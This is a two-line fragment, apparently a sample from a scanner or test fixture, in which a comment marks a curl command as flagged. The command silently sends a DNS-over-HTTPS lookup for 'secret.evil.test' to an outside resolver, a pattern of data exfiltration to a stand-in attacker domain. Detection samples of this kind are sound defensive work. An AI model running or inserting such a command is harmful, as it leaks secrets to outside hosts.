# flagged: curl
curl -sk -m 2 'https://9.9.9.9/resolve?name=secret.evil.test' >/dev/null || true
